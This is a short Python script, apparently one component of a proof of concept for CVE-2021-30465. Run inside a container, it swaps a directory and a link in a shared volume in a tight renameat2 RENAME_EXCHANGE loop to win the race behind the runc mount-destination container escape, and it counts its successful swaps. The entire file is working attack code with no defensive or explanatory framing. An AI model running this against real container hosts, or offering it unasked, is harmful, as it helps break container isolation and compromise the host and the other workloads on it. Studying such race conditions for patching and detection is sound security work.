"""Inside a container: exchanges a directory and a link in a shared volume as fast as it can (CVE-2021-30465).

Its arguments are the two names, made where they are missing. It stops when its standard input ends, and prints how
often it has exchanged them.
"""

import ctypes
import os
import select
import sys

RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
one, other = (os.fsencode(name) for name in sys.argv[1:3])
for name in (one, other):
    if not os.path.lexists(name):
        os.makedirs(name)
print("exchanging", flush=True)
count = 0
while not select.select([0], [], [], 0)[0]:
    for _ in range(100):
        count += libc.syscall(RENAMEAT2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0
print(count)
